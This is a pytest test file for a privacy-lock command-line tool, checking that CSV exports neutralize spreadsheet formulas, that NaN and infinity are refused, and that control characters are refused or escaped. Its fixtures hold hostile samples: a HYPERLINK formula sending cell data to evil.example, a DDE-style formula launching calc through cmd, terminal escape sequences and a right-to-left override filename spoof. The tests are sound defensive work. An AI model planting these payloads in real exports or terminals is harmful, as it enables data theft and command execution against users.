"""What the tool writes is safe to open and to print (issue 14), on every dialect: CSV fields a
spreadsheet would run as formulas are neutralized (and read back exactly), NaN and infinity are
refused in every float option before anything changes, and control characters are refused in
tickets and operators and shown escaped wherever stored text is printed."""

from __future__ import annotations

import csv
import io
import json
import math

import click
import pytest
import test_batch
from click.testing import CliRunner

from privacy_lock import requests as request_files
from privacy_lock import service
from privacy_lock.cli import FiniteFloat, cli
from privacy_lock.engine import Outcome
from privacy_lock.errors import UsageError
from privacy_lock.output import write_outcomes
from privacy_lock.pacing import Pacer
from privacy_lock.render import csv_raw, csv_text, csv_text_read, printable, render
from privacy_lock.requests import Request, load_requests
from sns import IDENTITY, build_sns, build_sns_under_stored_policy

TICKET = '=HYPERLINK("http://evil.example/?"&A1,"open")'
OPERATOR = "@ops"
REASON = "-2+3+cmd|' /C calc'!A0"
HOSTILE = ("--operator", OPERATOR, "--ticket", TICKET, "--reason", REASON)


@pytest.fixture
def sns(db_url, tmp_path):
    return build_sns(db_url, tmp_path)


@pytest.fixture
def approval_sns(db_url, tmp_path):
    """The test SNS under the stored default policy: a revert needs a second operator."""
    return build_sns_under_stored_policy(db_url, tmp_path)


def run_env(sns, *args, env, expect=0):
    base = ["--config", str(sns.config_path), "--database-url", sns.url]
    result = CliRunner().invoke(cli, [*base, *args], env=env, catch_exceptions=False)
    assert result.exit_code == expect, (result.exit_code, result.output)
    return result


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def unchanged(sns):
    """What must stay the same when a command is refused: content, locks, snapshots, trail."""
    return sns.everything(), sns.lock_rows(), sns.snapshot_rows(), sns.audit_count()


# --- 1. CSV formula neutralization ---------------------------------------------------------------

ROUND_TRIP = ["=1+1", "+1 street", "-rm", "@SUM(A1)", "\tx", "\rx", "-", "'=already", "''@two",
              "'plain", "plain", "", "-5", "+42", "-1.5e3", "5", "a=b", "'", "x\n=y"]


@pytest.mark.parametrize("value", ROUND_TRIP)
def test_csv_text_neutralizes_formulas_and_reads_back_exactly(value):
    written = csv_text(value)
    assert csv_text_read(written) == value
    runs = written.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r")
    if runs and value not in ("-5", "+42", "-1.5e3"):
        assert written == "'" + value  # a spreadsheet sees text starting with '
    else:
        assert written == value


def test_render_neutralizes_only_text_and_keeps_numbers():
    rows = [{"user": "-7", "lock": -3, "count": 0, "ticket": "=cmd", "who": "@x", "none": None}]
    [row] = csv_rows(render(rows, "csv"))
    assert row == {"user": "-7", "lock": "-3", "count": "0", "ticket": "'=cmd", "who": "'@x",
                   "none": ""}
    with csv_raw():
        [raw] = csv_rows(render(rows, "csv"))
    assert raw["ticket"] == "=cmd" and raw["who"] == "@x"
    [again] = csv_rows(render(rows, "csv"))  # the raw setting ended with its block
    assert again["ticket"] == "'=cmd"


def test_retry_file_is_neutralized_even_raw_and_reruns_exactly(tmp_path):
    """The NAME.failed.csv of a run is a request file: written neutralized whatever --csv-raw
    says, and --from-file reads every value back exactly as it was given."""
    values = [("=u1", "=T", "-r", "@op"), ("-7", "'=T", "''@r", "+op"), ("u3", "T", "r", "op")]
    outcomes = [Outcome(Request(i + 2, user, None, ticket, reason, operator, ("diary",)),
                        user, None, "failed", error="could not lock")
                for i, (user, ticket, reason, operator) in enumerate(values)]
    with csv_raw():
        retry = write_outcomes(tmp_path / "result.csv", outcomes, "apply")
    assert retry == tmp_path / "result.failed.csv"
    written = csv_rows(retry.read_text(encoding="utf-8"))
    assert [r["ticket"] for r in written] == ["'=T", "''=T", "T"]
    assert [r["user_id"] for r in written] == ["'=u1", "-7", "u3"]
    [first] = csv_rows((tmp_path / "result.csv").read_text(encoding="utf-8"))[:1]
    assert first["user"] == "=u1"  # the results file follows --csv-raw
    again = load_requests(retry, "apply", default_ticket=None, default_reason=None,
                          default_operator=None, known_kinds=["diary"],
                          normalize_user=lambda u: u, unknown_users=lambda ids: [])
    assert [(r.user_id, r.ticket, r.reason, r.operator) for r in again] == values


def test_csv_exports_neutralize_formulas_and_numbers_stay(approval_sns, tmp_path):
    sns = approval_sns
    user = sns.users[0]
    sns.run("apply", str(user), *HOSTILE)

    [lock] = csv_rows(sns.run("locks", "--format", "csv").stdout)
    assert (lock["operator"], lock["ticket"], lock["reason"]) == (
        "'" + OPERATOR, "'" + TICKET, "'" + REASON)
    assert lock["lock_id"] == "1" and lock["user"] == str(user)
    assert int(lock["items"]) > 0 and lock["age_days"] == "0"

    events = csv_rows(sns.run("audit", "report", "--format", "csv").stdout)
    assert events and all(e["ticket"] == "'" + TICKET and e["operator"] == "'" + OPERATOR
                          and e["reason"] == "'" + REASON for e in events)
    assert [e["seq"] for e in events] == [str(i) for i in range(1, len(events) + 1)]
    out = tmp_path / "audit.csv"
    sns.run("audit", "report", "--format", "csv", "--output", str(out))
    assert csv_rows(out.read_text(encoding="utf-8")) == events

    # --csv-raw and its environment variable: exactly as stored, for programs.
    raw = csv_rows(sns.run("--csv-raw", "audit", "report", "--format", "csv").stdout)
    assert {(e["ticket"], e["operator"], e["reason"]) for e in raw} == {
        (TICKET, OPERATOR, REASON)}
    raw = csv_rows(run_env(sns, "locks", "--format", "csv",
                           env={"PRIVACY_LOCK_CSV_RAW": "1"}).stdout)
    assert raw[0]["ticket"] == TICKET

    # revert under the two-person rule: the filed requests, on stdout and in --output.
    filed_csv = tmp_path / "filed.csv"
    filed = sns.run("revert", "--user", str(user), *HOSTILE, "--format", "csv",
                    "--output", str(filed_csv))
    [request] = csv_rows(filed.stdout)
    assert request["requested_by"] == "'" + OPERATOR and request["request"] == "1"
    assert csv_rows(filed_csv.read_text(encoding="utf-8")) == [request]
    [waiting] = csv_rows(sns.run("requests", "--format", "csv").stdout)
    assert (waiting["ticket"], waiting["reason"], waiting["requested_by"]) == (
        "'" + TICKET, "'" + REASON, "'" + OPERATOR)
    assert waiting["request"] == "1" and waiting["lock"] == "1"

    approved = csv_rows(sns.run("approve", "1", "--operator", "+bob", "--format", "csv").stdout)
    assert {r["status"] for r in approved} == {"reverted"}
    assert all(int(r["restored"]) >= 0 and r["user"] == str(user) for r in approved)
    [lock] = csv_rows(sns.run("locks", "--state", "all", "--format", "csv").stdout)
    assert lock["reverted_by"] == "'+bob"
    status = csv_rows(sns.run("status", str(user), "--format", "csv").stdout)
    assert status and all(r["user"] == str(user) and r["lock"] == "1" for r in status)


def test_apply_results_and_retry_file_round_trip_through_a_failed_run(sns, tmp_path, dialect):
    """A request that could not get its locks goes to NAME.failed.csv neutralized; re-running
    that file records the ticket, reason and operator exactly as first given."""
    u1, u2, u3 = sns.users
    held = next(i for (k, i), v in sns.items_of(u1, "diary").items() if v == sns.public)
    rows = [{"user_id": u, "ticket": TICKET, "reason": REASON, "operator": OPERATOR}
            for u in (u1, u2, u3)]
    path = tmp_path / "req.json"
    path.write_text(json.dumps(rows), encoding="utf-8")
    holder = test_batch.RowLockHolder(sns, "diary", held)
    holder.start()
    assert holder.holding.wait(10)
    try:
        sns.run("apply", "--from-file", str(path), "--lock-timeout", "0.2", "--retries", "0",
                "--output", str(tmp_path / "result.csv"), "--format", "csv", expect=1)
    finally:
        holder.release.set()
        holder.join()
    results = csv_rows((tmp_path / "result.csv").read_text(encoding="utf-8"))
    assert results and all(r["line"] == "1" for r in results)  # numbers as they are
    retry = tmp_path / "result.failed.csv"
    failed = csv_rows(retry.read_text(encoding="utf-8"))
    assert str(u1) in {r["user_id"] for r in failed}
    assert all((r["ticket"], r["reason"], r["operator"]) == (
        "'" + TICKET, "'" + REASON, "'" + OPERATOR) for r in failed)

    sns.run("apply", "--from-file", str(retry))
    assert all(v == sns.private for v in sns.items_of(u1).values())
    assert {(lk["ticket"], lk["reason"], lk["operator"]) for lk in sns.lock_rows()} == {
        (TICKET, REASON, OPERATOR)}


# --- 2. NaN and infinity -------------------------------------------------------------------------

FLOAT_OPTIONS = ("--lock-timeout", "--sleep", "--chunk-time")


def test_every_float_option_is_a_finite_float():
    def commands(group: click.Group):
        for command in group.commands.values():
            yield command
            if isinstance(command, click.Group):
                yield from commands(command)

    floats = [p for command in commands(cli) for p in command.params
              if isinstance(p.type, click.types.FloatParamType)]
    assert {p.name for p in floats} == {"lock_timeout", "sleep", "chunk_time"}
    assert all(isinstance(p.type, FiniteFloat) for p in floats)


def test_nan_and_infinity_are_usage_errors_and_change_nothing(sns):
    """--sleep inf used to crash after the first chunk had committed (diaries hidden, photos
    still visible); every float option refuses nan and inf before anything runs."""
    before = unchanged(sns)
    user = str(sns.users[0])
    for option in FLOAT_OPTIONS:
        for value in ("nan", "inf", "-inf", "NaN", "Infinity", "1e999"):
            for command in (["apply", user, *IDENTITY], ["revert", "--user", user, *IDENTITY],
                            ["approve", "1", "--operator", "bob"]):
                out = sns.run(*command, option, value, expect=2)
                assert "Traceback" not in out.output
                assert f"Invalid value for '{option}'" in out.output, out.output
    assert unchanged(sns) == before
    sns.run("apply", user, *IDENTITY, "--sleep", "0.01", "--lock-timeout", "1.5",
            "--chunk-time", "0.5")


@pytest.mark.parametrize("field", ["sleep", "lock_timeout", "chunk_time", "backoff"])
@pytest.mark.parametrize("value", [math.nan, math.inf])
def test_the_python_api_refuses_nan_and_infinity_too(field, value):
    with pytest.raises(UsageError, match="finite"):
        Pacer(**{field: value})


# --- 3. control characters -----------------------------------------------------------------------


def test_control_characters_in_a_request_file_are_refused_with_their_line(sns, tmp_path):
    u1, u2, u3 = sns.users
    before = unchanged(sns)
    path = tmp_path / "req.csv"
    path.write_text("user_id,ticket,reason,operator\n"
                    f"{u1},T-1\x1b[2J,ok,alice\n"
                    f"{u2},T-2,\"ok\x07\",alice\n"
                    f"{u3},T-3,\"two\nlines\tand a tab\",bob\x9b31m\n", encoding="utf-8")
    out = sns.run("apply", "--from-file", str(path), expect=2)
    assert "line 2: ticket contains the control character '\\x1b' at position 4" in out.stderr
    assert "line 3: reason contains the control character '\\x07'" in out.stderr
    assert "line 4: operator contains the control character '\\x9b'" in out.stderr
    assert "\x1b" not in out.stderr and "\x07" not in out.stderr and "\x9b" not in out.stderr
    json_path = tmp_path / "req.json"
    json_path.write_text(json.dumps([{"user_id": u1, "ticket": "T", "reason": "r",
                                      "operator": "al\nice"}], indent=1), encoding="utf-8")
    out = sns.run("apply", "--from-file", str(json_path), expect=2)
    assert "line 2: object 1: operator contains the control character '\\n'" in out.stderr
    assert unchanged(sns) == before


def test_control_characters_in_arguments_are_refused(approval_sns):
    sns = approval_sns
    user = str(sns.users[0])
    before = unchanged(sns)
    for args in (("--operator", "a", "--ticket", "T\x1b]0;owned\x07", "--reason", "r"),
                 ("--operator", "a\nforged line", "--ticket", "T", "--reason", "r"),
                 ("--operator", "a", "--ticket", "T", "--reason", "r\x1b[2J")):
        for dry in ((), ("--dry-run",)):
            out = sns.run("apply", user, *args, *dry, expect=2)
            assert "contains the control character" in out.stderr
            assert "\x1b" not in out.stderr and "\x07" not in out.stderr
    out = run_env(sns, "apply", user, "--ticket", "T", "--reason", "r",
                  env={"PRIVACY_LOCK_OPERATOR": "eve\x1b[8m"}, expect=2)
    assert "--operator: operator contains the control character '\\x1b'" in out.stderr
    out = sns.run("approve", "1", "--operator", "bo\rb", expect=2)
    assert "control character '\\r'" in out.stderr
    assert unchanged(sns) == before


def test_a_reason_keeps_its_line_breaks_and_every_table_shows_them_escaped(sns):
    user = sns.users[0]
    reason = "asked by phone\nsecond line\tafter a tab"
    sns.run("apply", str(user), "--operator", "alice", "--ticket", "T-1", "--reason", reason)
    assert {lk["reason"] for lk in sns.lock_rows()} == {reason}  # stored exactly
    shown = "asked by phone\\nsecond line\\tafter a tab"
    for args in (("locks",), ("audit", "report")):
        out = sns.run(*args, "--wide").stdout  # in full (by default it may be cut to fit)
        assert shown in out and "second line\t" not in out
        assert "second line\t" not in sns.run(*args).stdout
    events = json.loads(sns.run("audit", "report", "--format", "json").stdout)
    assert {e["reason"] for e in events} == {reason}  # JSON carries the value itself


def test_stored_control_characters_are_printed_escaped_everywhere(approval_sns, tmp_path,
                                                                  monkeypatch):
    """Text stored before validation refused control characters (or written by hand) never
    reaches a terminal or the HTML report raw."""
    sns = approval_sns
    monkeypatch.setattr(service, "text_problem", lambda name, value, limits=(): None)
    monkeypatch.setattr(request_files, "text_problem", lambda name, value, limits=(): None)
    ticket, operator = "\x1b[31mT-1", "mal\x1b]0;owned\x07lory"
    reason = "r\x1b[2J\x9b1m\u202egnp.exe"
    user = str(sns.users[0])
    sns.run("apply", user, "--operator", operator, "--ticket", ticket, "--reason", reason)
    filed = sns.run("revert", "--user", user, "--operator", operator, "--ticket", ticket,
                    "--reason", reason)
    assert "Someone other than mal\\x1b]0;owned\\x07lory runs" in filed.stderr

    raw = ("\x1b", "\x07", "\x9b", "\u202e")
    html_path = tmp_path / "report.html"
    outputs = [sns.run("locks").output, sns.run("requests").output,
               sns.run("audit", "report", "--wide").output,  # in full: not cut to fit
               sns.run("audit", "report", "--ticket", ticket).output,
               sns.run("audit", "report", "--summary").output]
    sns.run("audit", "report", "--format", "html", "--ticket", ticket, "--output",
            str(html_path))
    outputs.append(html_path.read_text(encoding="utf-8"))
    for text in outputs:
        assert not any(c in text for c in raw), text
    table, html = outputs[2], outputs[-1]
    assert "\\x1b[31mT-1" in table and "r\\x1b[2J\\x9b1m\\u202egnp.exe" in table
    assert "\\x1b[31mT-1" in html and "mal\\x1b]0;owned\\x07lory" in html
    assert "--ticket \\x1b[31mT-1" in html  # the filters line too


def test_printable_escapes_every_control_character():
    assert printable("a\x1b[31mb\x07\x00\x7f\x85\u2028\u202e") == (
        "a\\x1b[31mb\\x07\\x00\\x7f\\x85\\u2028\\u202e")
    assert printable("tab\there\nnew\rline") == "tab\\there\\nnew\\rline"
    assert printable("one\ntwo\x1b", keep_newlines=True) == "one\ntwo\\x1b"
    assert printable("日本語 ok ✓") == "日本語 ok ✓"
